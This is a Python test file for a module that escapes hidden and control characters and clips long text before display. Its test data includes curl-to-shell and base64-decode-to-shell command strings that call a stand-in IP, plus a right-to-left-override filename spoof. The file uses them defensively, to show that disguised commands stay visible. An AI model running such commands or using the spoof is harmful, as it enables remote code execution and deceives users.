"""Proves what is escaped before it is shown, and what is left as it is."""

import msgspec
import pytest

from tidewaiter.sinks._escape import clipped, encode_json, is_hidden, visible


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain text", "plain text"),
        ("Zürich 東京 🚢", "Zürich 東京 🚢"),
        (r"printf '\x1b[31m'", r"printf '\x1b[31m'"),
        ("a\nb\r\tc", r"a\nb\r\tc"),
        ("\x00\x07\x1b[2J\x7f", r"\x00\x07\x1b[2J\x7f"),
        ("\x85\x9b1m", r"\x85\x9b1m"),
        ("\u202egpj.exe\u202c", r"\u202egpj.exe\u202c"),
        ("\u2066\u2069\u200e\u200f\u061c", r"\u2066\u2069\u200e\u200f\u061c"),
        ("a\u2028b\u2029", r"a\u2028b\u2029"),
        ("a\u200bb\ufeff\u00ad", r"a\u200bb\ufeff\xad"),
        ("a\u00a0b\u3000", r"a\xa0b\u3000"),
        ("e\u0301\ufe0f", r"e\u0301\ufe0f"),
        ("\u3164\u2800", r"\u3164\u2800"),
        ("\ud800x", r"\ud800x"),
        ("\U000e0041", r"\U000e0041"),
        ("\uffff\ue000", r"\uffff\ue000"),
    ],
)
def test_visible(text: str, shown: str) -> None:
    """Letters, digits and signs stay; what moves, turns or hides is written out."""
    assert visible(text) == shown


@pytest.mark.parametrize("code", [*range(0x20), *range(0x7F, 0xA1), *range(0x202A, 0x202F), *range(0x2066, 0x206A)])
def test_controls_and_direction_marks_are_hidden(code: int) -> None:
    """C0, DEL, C1, bidirectional embeddings, overrides and isolates."""
    assert is_hidden(chr(code))


class TestClipped:
    def test_short_text_stays(self) -> None:
        assert clipped("curl -s http://203.0.113.7/", 40) == "curl -s http://203.0.113.7/"

    def test_text_of_the_very_limit_stays(self) -> None:
        assert clipped("ab " * 10, 30) == "ab " * 10

    def test_middle_is_cut_and_counted(self) -> None:
        """Padding can hide neither the beginning nor the end of a command line."""
        text = "curl -s http://203.0.113.7/x " + "a " * 1000 + "| sh"
        shown = clipped(text, 50)
        assert shown.startswith("curl -s http://203.0.113.7/x a a a")
        assert shown.endswith("| sh")
        assert ".. [+1,983 characters] .." in shown

    def test_cut_counts_the_characters_of_the_text(self) -> None:
        """An escape is as long as it is shown when room is measured, and one character when the cut is counted."""
        shown = clipped("\u202e" * 100, 60)
        assert shown == r"\u202e" * 8 + " .. [+90 characters] .. " + r"\u202e" * 2

    def test_no_escape_is_cut_in_two(self) -> None:
        assert clipped("\x00" * 50, 10).split(" .. ") == [r"\x00\x00", "[+48 characters]", ""]

    def test_long_word_keeps_its_ends(self) -> None:
        """What follows a blob is shown too."""
        shown = clipped("echo " + "A" * 5000 + "z | base64 -d | sh", 500)
        assert shown == "echo " + "A" * 72 + "..[+4911].." + "A" * 17 + "z | base64 -d | sh"

    def test_short_text_of_many_escapes_is_cut(self) -> None:
        """The limit is on what is shown."""
        assert len(clipped("\U000e0041" * 400, 500)) < 560


class TestEncodeJson:
    def test_plain_value_is_what_msgspec_makes(self) -> None:
        assert encode_json({"a": ["Zürich", 1, None]}) == '{"a":["Zürich",1,null]}\n'.encode()

    def test_hidden_characters_are_escaped_and_come_back(self) -> None:
        """The line can be printed on a terminal, and every JSON reader gets the text as it was."""
        text = "\x1b[2J\x7f\x9b1m\u202e\u2028\U000e0041 é"
        encoded = encode_json({"what": text})
        assert encoded == b'{"what":"\\u001b[2J\\u007f\\u009b1m\\u202e\\u2028\\udb40\\udc41 \xc3\xa9"}\n'
        assert msgspec.json.decode(encoded) == {"what": text}

    def test_lone_surrogates_become_text(self) -> None:
        """UTF-8 cannot hold them, and many readers refuse `\\udcff` in JSON; keys and values are kept apart."""
        encoded = encode_json({"k\ud800": ("\udcff", {"x": 1})})
        assert msgspec.json.decode(encoded) == {r"k\ud800": [r"\udcff", {"x": 1}]}
